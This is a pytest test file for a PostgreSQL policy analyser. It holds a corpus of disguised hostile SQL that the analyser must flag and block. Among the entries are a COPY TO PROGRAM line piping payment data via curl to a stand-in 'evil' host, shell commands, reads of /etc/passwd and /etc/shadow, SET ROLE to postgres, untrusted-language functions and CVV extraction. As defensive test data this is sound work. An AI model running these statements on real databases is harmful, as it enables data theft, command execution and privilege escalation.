"""The evasion corpus: statements in many disguises, what the analysis must
see in them, and what the default pack decides for each group.

This file checks the analysis only (fast, no OPA). The same table is
evaluated against a real OPA with the real rego/ by
tests/integration/test_opa_policy.py. To grow the corpus, add a line to
CORPUS: ``blocked(sql, evidence...)`` for statements no group may run, or
``case(sql, evidence, fraud=..., writer=..., dba=..., approver=...)``.

Evidence strings (what the analysis must report, in any statement):
``unparseable``, ``flag:<name>``, ``fn:<name>``, ``cmd:<command>``,
``rel:<schema.table>:<access>``, ``col:<schema.table.column>``,
``cmp:<column><op><value>``.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import pytest

from policyd.analysis import Analysis, analyse

GROUPS = ("fraud-readers", "payments-writers", "dba", "approvers")


@dataclass(frozen=True)
class Case:
    sql: str
    evidence: tuple[str, ...]
    verdicts: dict[str, str] = field(default_factory=dict)  # group -> allow|deny|hold
    params: tuple[str | None, ...] | None = None
    search_path: str = '"$user", public'

    @property
    def id(self) -> str:
        return self.sql[:60]


def blocked(sql: str, *evidence: str, params: tuple[str | None, ...] | None = None) -> Case:
    return Case(sql, evidence, dict.fromkeys(GROUPS, "deny"), params)


def case(sql: str, *evidence: str, fraud: str = "deny", writer: str = "deny",
         dba: str = "allow", approver: str = "deny",
         params: tuple[str | None, ...] | None = None) -> Case:
    return Case(sql, evidence, {"fraud-readers": fraud, "payments-writers": writer, "dba": dba,
                                "approvers": approver}, params)


CORPUS: list[Case] = [
    # --- DROP DATABASE, whatever the spelling
    blocked("DROP DATABASE shop", "flag:drop_database"),
    blocked("/* harmless */ dRoP   DATABASE shop", "flag:drop_database"),
    blocked('drop database "shop"', "flag:drop_database"),
    blocked("DROP DATABASE IF EXISTS shop WITH (FORCE)", "flag:drop_database"),
    blocked("SELECT 1; DROP DATABASE shop", "flag:drop_database", "cmd:select"),
    blocked("-- comment\nDROP\n--x\nDATABASE shop", "flag:drop_database"),
    # --- roles and users
    blocked("ALTER USER app PASSWORD 'x'", "flag:role_statement"),
    blocked("alter role fraud_reader superuser", "flag:role_statement"),
    blocked("CREATE ROLE evil LOGIN SUPERUSER", "flag:role_statement"),
    blocked("CREATE USER evil", "flag:role_statement"),
    blocked("DROP ROLE fraud_reader", "flag:role_statement"),
    blocked("DROP USER IF EXISTS app", "flag:role_statement"),
    blocked("CREATE GROUP g", "flag:role_statement"),
    blocked("ALTER GROUP g ADD USER app", "flag:role_statement"),
    blocked("ALTER ROLE app RENAME TO admin", "flag:role_statement"),
    blocked("ALTER ROLE app SET search_path = evil", "flag:role_statement"),
    # --- privileges
    blocked("GRANT SELECT ON payments TO public", "flag:grant"),
    blocked("REVOKE ALL ON payments FROM fraud_reader", "flag:grant"),
    blocked("GRANT dba_role TO fraud_reader", "flag:grant"),
    blocked("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public", "flag:grant"),
    blocked("CREATE SCHEMA s CREATE TABLE t (id int) GRANT SELECT ON payments TO public",
            "flag:grant"),
    blocked("CREATE TABLE t (x text DEFAULT pg_read_file('/etc/passwd'))", "fn:pg_read_file"),
    # --- COPY PROGRAM and server files
    blocked("COPY payments TO PROGRAM 'curl -d @- http://evil'", "cmd:copy",
            "flag:copy_program"),
    blocked("copy (select 1) to program 'sh -c id'", "flag:copy_program"),
    blocked("COPY payments FROM PROGRAM 'cat /etc/passwd'", "flag:copy_program",
            "rel:public.payments:write"),
    blocked("COPY payments TO '/tmp/cards.csv'", "cmd:copy"),
    blocked("COPY payments FROM '/etc/passwd'", "cmd:copy"),
    # --- server file access functions
    blocked("SELECT pg_read_file('/etc/passwd')", "fn:pg_read_file"),
    blocked('select "pg_catalog"."pg_read_file"(\'/etc/passwd\')', "fn:pg_read_file"),
    blocked('SELECT U&"\\0070g_read_file"(\'/etc/passwd\')', "fn:pg_read_file"),
    blocked("SELECT PG_READ_FILE('/etc/passwd')", "fn:pg_read_file"),
    blocked("SELECT pg_read_binary_file('/etc/shadow')", "fn:pg_read_binary_file"),
    blocked("SELECT * FROM pg_ls_dir('.')", "fn:pg_ls_dir"),
    blocked("SELECT lo_import('/etc/passwd')", "fn:lo_import"),
    blocked("SELECT lo_export(16401, '/tmp/x')", "fn:lo_export"),
    blocked("SELECT pg_stat_file('postgresql.conf')", "fn:pg_stat_file"),
    blocked("SELECT (SELECT pg_read_file('/etc/passwd'))", "fn:pg_read_file"),
    blocked("WITH x AS (SELECT pg_read_file('a') AS f) SELECT * FROM x", "fn:pg_read_file"),
    blocked("SELECT id FROM payments WHERE id = 1 AND pg_read_file('/etc/passwd') IS NOT NULL",
            "fn:pg_read_file"),
    blocked("SET search_path = evil; SELECT pg_read_file('/etc/passwd')", "fn:pg_read_file"),
    blocked("SELECT evil.pg_read_file('/etc/passwd')", "fn:pg_read_file"),
    blocked("SELECT count(*) FROM payments GROUP BY pg_ls_dir('.')", "fn:pg_ls_dir"),
    blocked("SELECT * FROM pg_read_file('/etc/passwd')", "fn:pg_read_file"),
    blocked("VALUES (pg_read_file('/etc/passwd'))", "fn:pg_read_file"),
    blocked("SELECT 1 FROM payments WHERE id = 1 ORDER BY pg_read_file('x')", "fn:pg_read_file"),
    blocked("INSERT INTO payments (note) VALUES (pg_read_file('/etc/passwd'))",
            "fn:pg_read_file"),
    blocked("UPDATE payments SET note = pg_read_file('x') WHERE id = 1", "fn:pg_read_file"),
    blocked("CREATE TABLE loot AS SELECT pg_read_file('/etc/passwd')", "fn:pg_read_file"),
    blocked("EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')", "fn:pg_read_file"),
    blocked('SELECT "pg_read_file"(\'x\')', "fn:pg_read_file"),
    blocked("SELECT (pg_read_file('/etc/passwd'))::text", "fn:pg_read_file"),
    # --- ALTER SYSTEM
    blocked("ALTER SYSTEM SET shared_preload_libraries = 'evil'", "flag:alter_system"),
    blocked("alter system reset all", "flag:alter_system"),
    # --- untrusted languages and functions wrapping forbidden actions
    blocked("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$",
            "flag:untrusted_language"),
    blocked("CREATE OR REPLACE FUNCTION f() RETURNS int AS 'evil.so', 'f' LANGUAGE C",
            "flag:untrusted_language"),
    blocked("DO LANGUAGE plperlu $$ system('id') $$", "flag:untrusted_language"),
    blocked("CREATE FUNCTION r() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$",
            "fn:pg_read_file", "cmd:create_function"),
    blocked("CREATE FUNCTION r() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('x'); END",
            "fn:pg_read_file"),
    blocked("CREATE FUNCTION r() RETURNS void LANGUAGE plpgsql AS "
            "$$ BEGIN PERFORM lo_export(1, '/tmp/x'); END $$",
            "fn:lo_export"),
    # --- dynamic or opaque SQL
    blocked("DO $$ BEGIN EXECUTE 'DROP TABLE payments'; END $$", "flag:dynamic_sql", "cmd:do"),
    blocked("DO $$ BEGIN PERFORM 1; END $$", "flag:dynamic_sql"),
    blocked("EXECUTE stolen_plan", "flag:opaque_sql", "cmd:execute"),
    blocked("PREPARE p AS SELECT pg_read_file('/etc/passwd'); EXECUTE p", "fn:pg_read_file"),
    blocked("SELECT query_to_xml('select * from customers', true, false, '')",
            "fn:query_to_xml"),
    blocked("SELECT table_to_xml('customers', true, false, '')", "fn:table_to_xml"),
    blocked("CREATE FUNCTION d() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'select 1'; END $$",
            "flag:dynamic_sql"),
    # --- role switching
    blocked("SET ROLE postgres", "flag:set_role"),
    blocked("set local role dba_role", "flag:set_role"),
    blocked("RESET ROLE", "flag:set_role"),
    blocked("SET SESSION AUTHORIZATION postgres", "flag:session_authorization"),
    blocked("SELECT set_config('role', 'postgres', false)", "flag:set_role", "fn:set_config"),
    blocked("LOAD 'evil'", "cmd:load"),
    # --- sensitive authentication data (PCI DSS 3.3.1), even for dba
    blocked("SELECT cvv FROM customers WHERE id = 1", "col:public.customers.cvv"),
    blocked("SELECT * FROM customers WHERE id = 1", "col:public.customers.*"),
    blocked("SELECT c FROM customers c WHERE c.id = 1", "col:public.customers.*"),
    blocked("SELECT row_to_json(c) FROM customers c WHERE c.id = 1", "col:public.customers.*"),
    blocked("SELECT x FROM (SELECT cvv AS x FROM customers WHERE id = 1) s",
            "col:public.customers.cvv"),
    blocked("SELECT id FROM customers WHERE cvv = '123'", "col:public.customers.cvv"),
    blocked("SELECT public.customers.cvv FROM public.customers WHERE id = 1",
            "col:public.customers.cvv"),
    blocked("SET search_path = evil, public; SELECT cvv FROM customers WHERE id = 1",
            "col:public.customers.cvv"),
    blocked("INSERT INTO customers (id, cvv) VALUES (1, '123')", "col:public.customers.cvv"),
    blocked("COPY (SELECT cvv FROM customers) TO STDOUT", "col:public.customers.cvv"),
    blocked("SELECT 1 UNION SELECT cvv FROM customers WHERE id = 1", "col:public.customers.cvv"),
    blocked("SELECT * FROM (VALUES (1)) v, LATERAL (SELECT cvv FROM customers c "
            "WHERE c.id = v.column1) x", "col:public.customers.cvv"),
    blocked("CREATE VIEW cvvs AS SELECT cvv FROM customers", "col:public.customers.cvv"),
    # correlated: orders has no cvv, PostgreSQL takes the outer customers.cvv
    blocked("SELECT (SELECT cvv FROM orders LIMIT 1) FROM customers WHERE id = 1",
            "col:public.customers.cvv"),
    # --- what the parser rejects is refused
    blocked("SELEKT 1", "unparseable"),
    blocked("SELECT 1; DROP DATABSE shop", "unparseable"),
    blocked("SELECT '", "unparseable"),
    # FunctionCall protocol message: a function the tap's catalog does not
    # know arrives as this placeholder, never run blind
    blocked("<function call oid 2620>", "unparseable"),
    # ... one it knows arrives as its SQL call (tap/session.py _function_call_sql)
    blocked('SELECT "pg_catalog"."lo_export"($1, $2)', "fn:lo_export"),
    blocked('SELECT "pg_catalog"."pg_read_file"($1)', "fn:pg_read_file"),
    blocked('SELECT "pg_catalog"."lo_import"($1)', "fn:lo_import"),
    case('SELECT "pg_catalog"."loread"($1, $2)', "fn:loread"),
    case('SELECT "pg_catalog"."lo_open"($1, $2)', "fn:lo_open"),
    case('SELECT "pg_catalog"."upper"($1)', "fn:upper", fraud="allow", writer="allow"),
    # --- the same statement, decided by group
    case("SELECT * FROM payments WHERE amount > 10000", "cmp:amount>10000",
         "rel:public.payments:read", fraud="hold"),
    case("select * from PAYMENTS where AMOUNT > 10000", "cmp:amount>10000", fraud="hold"),
    case("SELECT * FROM payments WHERE 10000 < amount", "cmp:amount>10000", fraud="hold"),
    case("SELECT * FROM payments WHERE amount > 10000::numeric", "cmp:amount>10000",
         fraud="hold"),
    case("SELECT * FROM payments WHERE amount > 1e4", fraud="hold"),
    case("SELECT * FROM payments WHERE amount BETWEEN 20000 AND 90000", fraud="hold"),
    case("SELECT * FROM payments WHERE amount IN (5, 20000)", fraud="hold"),
    case("SELECT * FROM payments WHERE NOT (amount <= 10000)", fraud="hold"),
    case("SELECT * FROM payments WHERE amount < 100 OR amount > 50000", fraud="hold"),
    case("SELECT * FROM payments WHERE amount > 100 AND amount <= 5000", fraud="allow"),
    case("SELECT * FROM payments WHERE (amount > 10000) IS TRUE", fraud="hold"),
    case("SELECT * FROM payments WHERE CASE WHEN amount <= 10000 THEN false ELSE true END",
         fraud="hold"),
    case("SELECT * FROM payments WHERE amount IS DISTINCT FROM 5", fraud="hold"),
    case("SELECT * FROM payments WHERE amount IS NOT NULL", fraud="hold"),
    case("SELECT * FROM payments WHERE id < amount", fraud="hold"),
    case("SELECT * FROM payments WHERE amount + 0 = ANY('{20000}')", fraud="hold"),
    case("SELECT * FROM payments WHERE abs(amount) > 10000", fraud="hold"),
    case("SELECT * FROM payments WHERE amount::text LIKE '2%'", fraud="hold"),
    case("SELECT * FROM payments WHERE amount = $1", "cmp:amount=20000", params=("20000",),
         fraud="hold"),
    case("SELECT * FROM payments WHERE amount = $1", "cmp:amount=5", params=("5",),
         fraud="allow"),
    case("SELECT * FROM payments WHERE amount = $1", fraud="hold"),  # value not bound yet
    case("SELECT p.* FROM payments p WHERE p.amount > 20000 AND EXISTS "
         "(SELECT 1 FROM payments q WHERE q.amount < 5)", fraud="hold"),
    case("SELECT * FROM payments", "rel:public.payments:read", fraud="hold"),
    case("SELECT * FROM payments WHERE EXISTS (SELECT 1 FROM payments q WHERE q.id = 1)",
         fraud="hold"),
    case("SET search_path = evil, public; SELECT * FROM payments", "rel:public.payments:read",
         fraud="hold"),
    case("SET search_path = evil, public; SELECT * FROM evil.payments, payments",
         "rel:public.payments:read", fraud="hold"),
    case("SELECT * FROM payments LIMIT 10", fraud="allow"),
    case("TABLE payments", "rel:public.payments:read", fraud="hold"),
    case('SeLeCt * FrOm "public"."payments" WhErE amount>10000', fraud="hold"),
    case("SELECT * FROM ONLY public.payments WHERE amount > 20000", fraud="hold"),
    case("DECLARE c CURSOR FOR SELECT * FROM payments", "cmd:declare_cursor", fraud="hold"),
    case("FETCH 10 FROM c", "cmd:fetch", fraud="allow", writer="allow"),
    case("SELECT * FROM payments WHERE id = 1 FOR UPDATE", fraud="allow"),
    case("CALL evil_proc()", "cmd:call", "fn:evil_proc"),
    case("SELECT id, card_number FROM payments WHERE id = 1", "col:public.payments.card_number",
         fraud="allow"),
    case("SELECT encode(card_number::bytea, 'hex') FROM payments WHERE id = 1", fraud="allow"),
    case("SELECT id FROM payments WHERE id = $1", params=("7",), fraud="allow"),
    case("SELECT 1", fraud="allow", writer="allow"),
    case("BEGIN", "flag:transaction_control", fraud="allow", writer="allow"),
    case("SHOW search_path", "cmd:show", fraud="allow", writer="allow"),
    case("SET statement_timeout = 1000", "cmd:set", fraud="allow", writer="allow"),
    case("SET search_path = public", "cmd:set", fraud="allow", writer="allow"),
    case("SET search_path = evil, pg_catalog", "cmd:set"),  # evil.lower() for lower()
    case("SET search_path = evil, pg_catalog; SELECT lower('a')", "cmd:set"),
    case("INSERT INTO payments (customer_id, amount) VALUES (1, 5)",
         "rel:public.payments:write", writer="allow"),
    case("UPDATE payments SET amount = 6 WHERE id = 1", "cmd:update", writer="allow"),
    case("DELETE FROM payments WHERE id = 1", "cmd:delete", writer="hold"),
    case("WITH d AS (DELETE FROM payments WHERE id = 1 RETURNING id) SELECT * FROM d",
         "flag:data_modifying_cte", "rel:public.payments:write"),
    case("SELECT * INTO stolen FROM payments WHERE id = 1", "flag:select_into",
         "rel:public.stolen:write"),
    case("INSERT INTO payments (customer_id, amount) SELECT id, 1 FROM customers",
         "rel:public.customers:read"),
    case("CREATE TABLE t (id int)", "cmd:ddl"),
    case("TRUNCATE payments", "cmd:truncate", "rel:public.payments:write"),
    case("CREATE RULE r AS ON INSERT TO orders DO INSTEAD DELETE FROM payments",
         "rel:public.payments:write"),
    case("SELECT evil.fn()", "fn:fn"),
    case("SELECT pg_terminate_backend(123)", "fn:pg_terminate_backend"),
    case("SELECT setval('payments_id_seq', 1)", "fn:setval"),  # a write in disguise
    case("EXPLAIN ANALYZE DELETE FROM payments", "cmd:explain", "rel:public.payments:write"),
    case("PREPARE q AS SELECT id FROM payments WHERE id = $1", "cmd:prepare", fraud="allow"),
    case("PREPARE q AS DELETE FROM payments WHERE id = 1", "cmd:prepare"),
    case("PREPARE q AS SELECT id FROM payments WHERE id = $1; EXECUTE q(1)", fraud="allow"),
    case("SELECT 1; DELETE FROM payments WHERE id = 1", "cmd:delete", writer="hold"),
]


def evidence_in(analysis: Analysis, item: str) -> bool:
    if item == "unparseable":
        return not analysis.parseable
    kind, _, what = item.partition(":")
    for s in analysis.statements:
        if kind == "flag" and s.get(what) is True:
            return True
        if kind == "fn" and any(f["name"].lower() == what for f in s["functions"]):
            return True
        if kind == "cmd" and s["command"] == what:
            return True
        if kind == "rel":
            table, access = what.rsplit(":", 1)
            if any(table in r["candidates"] and r["access"] == access for r in s["relations"]):
                return True
        if kind == "col":
            table, col = what.rsplit(".", 1)
            if any(table in r["candidates"] and col in r["columns"] for r in s["relations"]):
                return True
        if kind == "cmp":
            for c in s["comparisons"]:
                if f'{c["column"]}{c["op"]}{c["value"]}' == what:
                    return True
    return False


@pytest.mark.parametrize("entry", CORPUS, ids=lambda c: c.id)
def test_analysis_sees_it(entry: Case) -> None:
    analysis = analyse(entry.sql, search_path=entry.search_path, user="fraud_reader",
                       params=entry.params)
    missing = [e for e in entry.evidence if not evidence_in(analysis, e)]
    assert not missing, (missing, analysis.to_input())


def test_corpus_blocks_are_noticed_by_analysis() -> None:
    """Every always-blocked entry names the evidence the pack relies on."""
    for entry in CORPUS:
        if set(entry.verdicts.values()) == {"deny"}:
            assert entry.evidence, entry.sql


def test_corpus_is_unique() -> None:
    keys = [(c.sql, c.params) for c in CORPUS]
    assert len(keys) == len(set(keys))
